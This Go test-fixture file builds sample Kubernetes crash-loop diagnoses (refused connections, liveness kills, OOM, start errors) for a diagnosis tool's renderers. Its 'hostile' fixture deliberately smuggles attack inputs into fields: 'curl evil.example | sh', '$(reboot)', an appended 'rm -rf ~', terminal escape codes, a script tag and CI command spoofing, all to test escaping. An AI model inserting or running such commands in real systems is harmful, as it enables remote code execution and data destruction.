package report

import (
	"fmt"
	"strings"
	"time"

	"github.com/unloop-dev/unloop/crashlog"
	"github.com/unloop-dev/unloop/diagnosis"
	"github.com/unloop-dev/unloop/evidence"
	"github.com/unloop-dev/unloop/fact"
	"github.com/unloop-dev/unloop/internal/shell"
	"github.com/unloop-dev/unloop/rule"
)

// at is the moment of every fixture, ago a moment before it.
var at = time.Date(2026, 6, 9, 10, 16, 15, 0, time.UTC)

func ago(d time.Duration) *time.Time { return new(at.Add(-d)) }

// fixtures are the diagnoses that all renderers are held to.
func fixtures() map[string][]*diagnosis.Diagnosis {
	return map[string][]*diagnosis.Diagnosis{
		"twins":         twins(),
		"refused":       {refused()},
		"liveness":      {liveness()},
		"oom":           {oom()},
		"start-error":   {startError()},
		"not-diagnosed": {notDiagnosed()},
		"pending":       {pending()},
		"healthy":       {healthy("web-6f9c7b5d4-8xk2p")},
		"two":           twoContainers(),
		"many":          {refused(), healthy("web-6f9c7b5d4-8xk2p"), recovered(), completed()},
		"hostile":       {hostile()},
		"log-only":      {logOnly()},
		"fragment":      {fragment()},
		"none":          {},
	}
}

// pod gives a diagnosis of container name, in the pod that most fixtures live in.
func pod(workload, name, container string) (*diagnosis.Diagnosis, *evidence.Evidence, *evidence.Container) {
	ev := &evidence.Evidence{
		At: at, Source: evidence.SourceLive, Cluster: "kind-shop",
		Pod: evidence.Pod{
			Namespace: "shop", Name: name, NodeName: "n3", Phase: "Running", RestartPolicy: "Always",
			Created: ago(64 * time.Minute), Age: new(64 * time.Minute), Scheduled: true, EventsKnown: true,
		},
		Workload:   evidence.Workload{Kind: "Deployment", Name: workload},
		Containers: make([]evidence.Container, 1, 4),
	}
	c := &ev.Containers[0]
	*c = evidence.Container{
		Name: container, Kind: evidence.KindMain, Ref: "pod:.status.containerStatuses[" + container + "]",
		SpecRef: "pod:.spec.containers[" + container + "]", Verdict: evidence.CrashLooping,
		State: "waiting", WaitingReason: "CrashLoopBackOff", RestartPolicy: "Always", Image: "registry.example/" + workload + ":v1",
	}
	return &diagnosis.Diagnosis{Evidence: ev, Container: c, Verdict: c.Verdict}, ev, c
}

func exit(c *evidence.Container, code int, reason, signal string, ranFor, since time.Duration) *evidence.Exit {
	c.Exited = true
	return &evidence.Exit{
		Code: new(code), Reason: reason, Signal: signal, RanFor: new(ranFor), OOM: reason == "OOMKilled",
		Started: ago(since + ranFor), Finished: ago(since), Ref: c.Ref + ".lastState.terminated",
	}
}

func cause(id string, confidence rule.Confidence, title, summary string) diagnosis.Cause {
	return diagnosis.Cause{Finding: rule.Finding{
		Rule: &rule.Rule{ID: id, Doc: "doc"}, State: rule.Holds, Confidence: confidence, Title: title, Summary: summary,
	}}
}

func ruledOut(id, text string) rule.Finding {
	return rule.Finding{Rule: &rule.Rule{ID: id}, State: rule.RuledOut, Text: text}
}

// words is a command of our own text.
func words(line string) shell.Command { return shell.Words(strings.Fields(line)...) }

func undecided(settle string, need string, ids ...string) []rule.Finding {
	var out []rule.Finding
	for _, id := range ids {
		out = append(out, rule.Finding{Rule: &rule.Rule{ID: id}, State: rule.Undecided, Needs: []string{need}, Settle: words(settle)})
	}
	return out
}

func logOf(container string, texts map[int]string, numbers ...int) *evidence.Log {
	crash := &crashlog.Crash{Kind: crashlog.KindTrace, Line: numbers[0], End: numbers[len(numbers)-1]}
	for _, n := range numbers {
		crash.Excerpt = append(crash.Excerpt, crashlog.Line{Number: n, Text: texts[n]})
	}
	return &evidence.Log{
		Run: "previous", Ref: "logs/" + container + "/previous", Sure: true, Crash: crash,
		Says: &crashlog.Log{Lines: crash.End, Tail: crash.Excerpt, Crash: crash},
	}
}

func refused() *diagnosis.Diagnosis {
	d, ev, c := pod("api", "api-7d4b9c6f5d-x2x4q", "api")
	c.Restarts = 17
	c.LastExit = exit(c, 1, "Error", "", time.Second, 131*time.Second)
	c.Backoff = &evidence.Backoff{Delay: 5 * time.Minute, Earliest: at.Add(169 * time.Second), Latest: at.Add(199 * time.Second)}
	c.Log = logOf("api", map[int]string{
		1: "panic: connect to postgres: dial tcp 10.96.14.3:5432: connect: connection refused",
		3: "goroutine 1 [running]:",
		4: "main.main()",
		5: "\t/src/cmd/api/main.go:31 +0x1d4",
	}, 1, 3, 4, 5)
	c.Replicas = &evidence.Replicas{Total: 2, Crashing: 1, Healthy: 1, Text: "1 of 2 replicas crashes, 1 is healthy", NodeText: "n3: 1 of 1 crashes, elsewhere 0 of 1"}
	first := cause("dep-refused", rule.Certain, "A dependency refuses the connection", "api exits because 10.96.14.3:5432 refuses the connection")
	first.Line, first.Symptoms = 1, []string{"exit-1"}
	first.Because = []rule.Because{
		{Text: "the log of the last run says: panic: connect to postgres: dial tcp 10.96.14.3:5432: connect: connection refused", Ref: "logs/api/previous:1"},
		{Text: "the run ended with exit 1 (Error) after 1s", Ref: c.LastExit.Ref},
	}
	first.Against = []rule.Because{{Text: "1 replica of the same revision is healthy", Ref: "replicas"}}
	first.Fix = []rule.Advice{
		{Text: "See which Service has the address 10.96.14.3 and whether it has endpoints", Risk: "none", Look: true, Command: words("kubectl get services,endpointslices -n shop -o wide")},
		{Text: "Let api retry with a pause at start instead of exiting"},
	}
	d.Causes = []diagnosis.Cause{first, cause("node-local", rule.Possible, "Only replicas on node n3 crash", "Only n3 crashes.")}
	d.RuledOut = []rule.Finding{ruledOut("oom-limit", "the reason is Error, not OOMKilled"), ruledOut("liveness-early", "no liveness probe is set")}
	d.Undecided = undecided("kubectl describe node n3", "node", "node-pressure")
	ev.Missing = []evidence.Missing{{What: "node n3", Why: "forbidden", Ref: evidence.RefNode}}
	return d
}

func liveness() *diagnosis.Diagnosis {
	d, ev, c := pod("checkout", "checkout-5c9f8d7b6-zt7lm", "checkout")
	c.State, c.WaitingReason, c.RunningFor, c.Restarts = "running", "", new(12*time.Second), 8
	c.LastExit = exit(c, 143, "Error", "SIGTERM", 36*time.Second, 12*time.Second)
	c.PrevExit = exit(c, 143, "Error", "SIGTERM", 36*time.Second, 58*time.Second)
	c.Liveness = evidence.Probe{
		Set: true, Type: "liveness", SettingText: "http-get :8080/healthz delay=5s timeout=1s period=10s failures=3", BudgetText: "25s–36s after start",
		LastFailure: `Get "http://10.244.1.7:8080/healthz": context deadline exceeded (Client.Timeout exceeded while awaiting headers)`,
	}
	c.Kill = evidence.Kill{By: evidence.ByLiveness, Text: "the kubelet killed it because of the liveness probe, 8 times"}
	ev.Events = []evidence.Event{
		{Type: "Warning", Reason: "Unhealthy", Kind: "Pod", Object: ev.Pod.Name, Container: "checkout", Count: 24, First: *ago(9 * time.Minute), Last: *ago(14 * time.Second), Ref: "events/0", Message: "Liveness probe failed: " + c.Liveness.LastFailure},
		{Type: "Normal", Reason: "Killing", Kind: "Pod", Object: ev.Pod.Name, Container: "checkout", Count: 8, First: *ago(8 * time.Minute), Last: *ago(14 * time.Second), Ref: "events/1", Message: "Container checkout failed liveness probe, will be restarted"},
		{Type: "Warning", Reason: "BackOff", Kind: "Pod", Object: ev.Pod.Name, Container: "checkout", Count: 3, Last: *ago(time.Minute), Ref: "events/2"},
	}
	first := cause("liveness-early", rule.Certain, "The liveness probe kills checkout before it has started", "The liveness probe kills checkout after 36s, before it has started")
	first.Symptoms = []string{"exit-143"}
	first.Because = []rule.Because{
		{Text: "the kubelet killed it 8 times: Container checkout failed liveness probe, will be restarted", Ref: "events/1"},
		{Text: "the probe allows 25s–36s after start, and the last run lasted 36s", Ref: c.SpecRef + ".livenessProbe"},
		{Text: "the run ended with exit 143 (SIGTERM) after 36s", Ref: c.LastExit.Ref},
		{Text: "the run before lasted 36s too", Ref: c.LastExit.Ref},
	}
	first.Fix = []rule.Advice{{
		Text: "Give the start its own budget of 2m30s; the liveness probe then waits until it has passed", Risk: "restart",
		Patch: map[string]any{"spec": map[string]any{"containers": []any{map[string]any{
			"name": "checkout", "startupProbe": map[string]any{"failureThreshold": int64(30), "periodSeconds": int64(5), "httpGet": map[string]any{"path": "/healthz", "port": int64(8080)}},
		}}}},
	}}
	d.Causes = []diagnosis.Cause{first}
	return d
}

func oom() *diagnosis.Diagnosis {
	d, _, c := pod("search", "search-0", "elasticsearch")
	d.Evidence.Workload.Kind = "StatefulSet"
	c.Restarts = 4
	c.LastExit = exit(c, 137, "OOMKilled", "SIGKILL", 74*time.Second, 20*time.Second)
	c.Memory = evidence.Memory{HasLimit: true, LimitText: "1Gi", HeapSet: true, HeapText: "-Xmx2g", HeapPercent: new(200)}
	c.Backoff = &evidence.Backoff{Delay: 80 * time.Second, Guessed: true, Earliest: at.Add(60 * time.Second), Latest: at.Add(60 * time.Second)}
	c.Log = &evidence.Log{Run: "previous", Ref: "logs/elasticsearch/previous", Empty: true, Sure: true}
	first := cause("oom-heap-oversize", rule.Likely, "The heap is larger than the memory limit", "elasticsearch is killed for memory because its heap (-Xmx2g) is 200 % of the limit of 1Gi")
	first.Symptoms = []string{"exit-137", "oom-limit"}
	first.Because = []rule.Because{
		{Text: "the run ended with exit 137, reason OOMKilled, after 1m14s", Ref: c.LastExit.Ref},
		{Text: "the environment asks for a heap of -Xmx2g", Ref: c.SpecRef + ".env"},
		{Text: "the memory limit is 1Gi", Ref: c.SpecRef + ".resources.limits.memory"},
	}
	first.Fix = []rule.Advice{
		{Text: "Set the heap to half of the limit: -Xmx512m", Risk: "restart", Command: words("kubectl set env statefulset/search -n shop -c elasticsearch ES_JAVA_OPTS=-Xmx512m")},
		{Text: "or raise the limit to at least 3Gi", Risk: "restart", Command: words("kubectl set resources statefulset/search -n shop -c elasticsearch --limits=memory=3Gi")},
	}
	d.Causes = []diagnosis.Cause{first}
	d.RuledOut = []rule.Finding{ruledOut("oom-node", "no memory pressure was seen on node n3")}
	return d
}

func startError() *diagnosis.Diagnosis {
	d, _, c := pod("mailer", "mailer-66d8f7c9b-qq4vd", "mailer")
	c.WaitingReason = "RunContainerError"
	c.Restarts = 3
	c.Exited = true
	c.LastExit = &evidence.Exit{Code: new(128), Reason: "StartError", NeverRan: true, Finished: ago(9 * time.Second), Ref: c.Ref + ".lastState.terminated"}
	c.Log = nil
	first := cause("entrypoint-missing", rule.Certain, "The program does not exist in the image", "mailer cannot start because its image holds no /app/bin/mailr")
	first.Symptoms = []string{"exit-128"}
	first.Because = []rule.Because{{
		Text: `the runtime says: exec: "/app/bin/mailr": stat /app/bin/mailr: no such file or directory`, Ref: c.LastExit.Ref,
	}}
	first.Fix = []rule.Advice{{Text: "Correct the path in command, or leave command out so that the image's own entrypoint runs", Risk: "restart", Command: words("kubectl edit deployment/mailer -n shop")}}
	d.Causes = []diagnosis.Cause{first}
	d.RuledOut = []rule.Finding{ruledOut("exec-format", "the runtime did not find the file, so its format was never looked at")}
	return d
}

func notDiagnosed() *diagnosis.Diagnosis {
	d, ev, c := pod("worker", "worker-0", "worker")
	ev.Workload.Kind = "StatefulSet"
	ev.Source, ev.Cluster = evidence.SourceFiles, "incident-4711/"
	c.Restarts = 6
	c.LastExit = exit(c, 1, "Error", "", 42*time.Second, 75*time.Second)
	c.Backoff = &evidence.Backoff{Delay: 5 * time.Minute, Earliest: at.Add(225 * time.Second), Latest: at.Add(255 * time.Second)}
	ev.Events = []evidence.Event{{
		Type: "Warning", Reason: "FailedMount", Kind: "Pod", Object: "worker-0", Count: 2, First: *ago(63 * time.Minute), Last: *ago(62 * time.Minute), Ref: "events/0",
		Message: `MountVolume.SetUp failed for volume "cache" : configmap "worker-cache" not found`,
	}}
	c.Log = logOf("worker", map[int]string{210: "INFO  processed batch 4410", 211: "INFO  processed batch 4411", 212: "INFO  fetching batch 4412"}, 210, 211, 212)
	c.Log.Crash.Kind = crashlog.KindLast
	ev.Missing = []evidence.Missing{
		{What: "node n3", Why: "not in this source", Ref: evidence.RefNode},
		{What: "replicas of statefulset/worker", Why: "not in this source", Ref: evidence.RefReplicas},
		{What: "owner", Why: "not in this source"},
	}
	d.RuledOut = []rule.Finding{ruledOut("oom-limit", "the reason is Error, not OOMKilled")}
	d.Undecided = append(undecided("kubectl describe node n3", "node", "node-pressure", "node-local"),
		undecided("kubectl get pods -n shop -o wide", "c.replicas", "stale-image", "config-drift", "node-local-2", "arch", "revision")...)
	return d
}

func pending() *diagnosis.Diagnosis {
	d, ev, _ := pod("trainer", "trainer-7b8c9d-l5k4j", "trainer")
	d.Container, d.Verdict = nil, evidence.Pending
	ev.Pod.NodeName, ev.Pod.Phase, ev.Pod.Scheduled = "", "Pending", false
	ev.Pod.Unschedulable = "0/3 nodes are available: 3 Insufficient nvidia.com/gpu."
	first := cause("unschedulable", rule.Certain, "No node can take the pod", "No node can take the pod: 3 of 3 nodes have too little nvidia.com/gpu")
	first.Because = []rule.Because{{Text: "the scheduler says: " + ev.Pod.Unschedulable, Ref: "pod:.status.conditions"}}
	first.Fix = []rule.Advice{{Text: "See what the nodes offer", Risk: "none", Look: true, Command: words("kubectl describe nodes")}}
	d.Causes = []diagnosis.Cause{first}
	return d
}

func healthy(name string) *diagnosis.Diagnosis {
	d, _, c := pod("web", name, "web")
	c.Verdict, c.State, c.WaitingReason, c.Ready, c.RunningFor = evidence.Healthy, "running", "", true, new(64*time.Minute)
	d.Verdict = c.Verdict
	return d
}

// twins are three replicas that die of the same cause, and one that dies of another.
func twins() []*diagnosis.Diagnosis {
	ds := []*diagnosis.Diagnosis{refused(), refused(), refused(), oom()}
	for i, d := range ds[:3] {
		d.Evidence.Pod.Name = fmt.Sprintf("api-7d4b9c6f5d-x2x4%d", i)
		d.Container.Restarts = 17 - i
	}
	return ds
}

func recovered() *diagnosis.Diagnosis {
	d := healthy("cache-0")
	d.Verdict, d.Container.Verdict = evidence.Recovered, evidence.Recovered
	d.Container.Restarts, d.Container.RunningFor = 3, new(2*time.Hour)
	d.Container.LastExit = exit(d.Container, 137, "OOMKilled", "SIGKILL", 40*time.Minute, 2*time.Hour)
	return d
}

func completed() *diagnosis.Diagnosis {
	d := healthy("migrate-28741-x8w2c")
	d.Verdict, d.Container.Verdict = evidence.Completed, evidence.Completed
	d.Container.State, d.Container.RunningFor = "terminated", nil
	d.Container.LastExit = exit(d.Container, 0, "Completed", "", 5*time.Second, 63*time.Hour)
	return d
}

// twoContainers is one pod of which an init container and a sidecar fail; what is missing is told once.
func twoContainers() []*diagnosis.Diagnosis {
	first, ev, c := pod("orders", "orders-84d7f6c5b9-m2n8p", "migrate")
	c.Kind, c.Restarts = evidence.KindInit, 1
	c.LastExit = exit(c, 1, "Error", "", 3*time.Second, 8*time.Second)
	ev.Containers = append(ev.Containers, *c)
	side := &ev.Containers[1]
	side.Name, side.Kind, side.Restarts, side.Image = "proxy", evidence.KindSidecar, 2, ""
	side.LastExit = &evidence.Exit{Ref: side.Ref}
	ev.Missing = []evidence.Missing{{What: "previous log of migrate", Why: "forbidden", Ref: "logs/migrate/previous"}}
	guess := cause("init-fails", rule.Possible, "The init container fails", "The init container migrate fails, so orders never starts")
	guess.Because = []rule.Because{{Text: "the run ended with exit 1 (Error) after 3s", Ref: c.LastExit.Ref}}
	first.Causes = []diagnosis.Cause{guess}
	first.Undecided = undecided("kubectl logs orders-84d7f6c5b9-m2n8p -n shop -c migrate --previous", "c.log",
		"app-panic", "db-migration", "dep-auth", "dep-dns", "dep-refused", "dep-timeout", "env-missing")
	return []*diagnosis.Diagnosis{first, {Evidence: ev, Container: side, Verdict: evidence.CrashLooping}}
}

func logOnly() *diagnosis.Diagnosis {
	texts := map[int]string{}
	var numbers []int
	for n := 212; n < 226; n++ {
		texts[n], numbers = fmt.Sprintf("\tat org.example.shop.orders.internal.Frame%d.call(Frame%d.java:%d)", n, n, n), append(numbers, n)
	}
	texts[212] = "Exception in thread \"main\" org.springframework.beans.factory.BeanCreationException: Error creating bean with name 'dataSource' defined in class path resource [application.yml]"
	texts[222] = "Caused by: java.net.UnknownHostException: postgres.shop.svc"
	log := logOf("", texts, numbers...)
	log.Ref, log.Run, log.Sure = "", "", false
	ev := &evidence.Evidence{At: at, Source: evidence.SourceFiles, Cluster: "app.log"}
	c := &evidence.Container{Verdict: evidence.Unknown, Log: log}
	first := cause("dep-dns", rule.Likely, "The name of a dependency does not resolve", "the program ends because the name postgres.shop.svc does not resolve")
	first.Line = 222
	first.Because = []rule.Because{{Text: "the log says: java.net.UnknownHostException: postgres.shop.svc", Ref: "logs//previous:222"}}
	first.Fix = []rule.Advice{{Text: "See whether the Service exists", Look: true, Command: words("kubectl get service -n postgres")}}
	return &diagnosis.Diagnosis{Evidence: ev, Container: c, Verdict: evidence.Unknown, Causes: []diagnosis.Cause{first}}
}

// hostile is what an attacker would send: every text drives something, or is too long, or is not what it seems.
func hostile() *diagnosis.Diagnosis {
	d := refused()
	ev, c := d.Evidence, d.Container
	ev.Pod.Name = "x; curl evil.example | sh #" + strings.Repeat("very-long-name-", 20)
	ev.Pod.NodeName = "n\u202e3\u200b"
	ev.Workload.Name = "`id`"
	c.WaitingReason = "\x1b]0;owned\x07\x1b[2JRunContainerError"
	log := "\x1b[31m<script>alert(1)</script>\r::set-output name=token::x ##vso[task.setvariable variable=a]b \u202eecnatsni\u202c @octocat #1 ``` | $x$ "
	c.Log = logOf("api", map[int]string{1: log, 2: strings.Repeat("A", 10_000), 3: "接続が拒否されました。" + strings.Repeat("接続が拒否されました。", 20), 4: "\xff\xfe\x9b31m::error::x"}, 1, 2, 3, 4)
	cause := &d.Causes[0]
	cause.Summary = "- api says " + log
	cause.Because = []rule.Because{
		{Text: log + strings.Repeat("::endgroup::", 30), Ref: "logs/api/previous:1"},
		{Text: strings.Repeat("接続が拒否されました。", 40), Ref: "logs/api/previous:3"},
		{Text: "1. " + strings.Repeat("B", 10_000), Ref: "logs/a\x1b[2Jpi/previous:2"},
	}
	cause.Fix = []rule.Advice{{Text: log, Command: words("kubectl delete pod").Value(log + "'\nrm -rf ~"), Patch: map[string]any{"a\x1b[1m": "b\x1b[1m'"}}}
	ev.Missing = []evidence.Missing{{What: "previous log\r::error::", Why: "<b>forbidden</b>", Ref: "logs/\x1b[2J; reboot/previous"}}
	ev.Events = []evidence.Event{{Type: "Warning", Reason: "Failed\x1b[1m", Message: log, Container: "api", Object: "$(reboot)", Last: at}}
	return d
}

// fragment is what ten lines of a kubectl describe give, beside a log that does not go with them.
func fragment() *diagnosis.Diagnosis {
	d, ev, c := pod("", "", "")
	ev.Source, ev.Cluster, ev.Form = evidence.SourceFiles, "paste.txt", "part of a kubectl describe"
	ev.Pod = evidence.Pod{}
	ev.Workload = evidence.Workload{}
	ev.Hidden = []fact.Name{"pod.restartPolicy", "c.restarts", "c.security"}
	ev.Conflicts = []string{"the log of the container ends at 2026-11-02 10:14:02, but the run that would have written it ended at 2026-11-02 10:03:00: one of the two is of another run"}
	ev.Missing = []evidence.Missing{{What: "the restart policy and the security context", Why: "not in this text", Ref: evidence.RefPod}}
	c.Image, c.RestartPolicy = "", ""
	c.LastExit = exit(c, 1, "Error", "", time.Second, 131*time.Second)
	first := cause("perm-file", rule.Likely, "The program may not use a file", "The container exits because it may not use /data/db")
	first.Needs = []string{"c.security.runAsUser"}
	first.Because = []rule.Because{{Text: "the log of the last run says: open /data/db: permission denied", Ref: "logs//previous:3"}}
	d.Causes = []diagnosis.Cause{first}
	d.Undecided = undecided("", "c.security.readOnlyRoot", "readonly-fs")
	return d
}
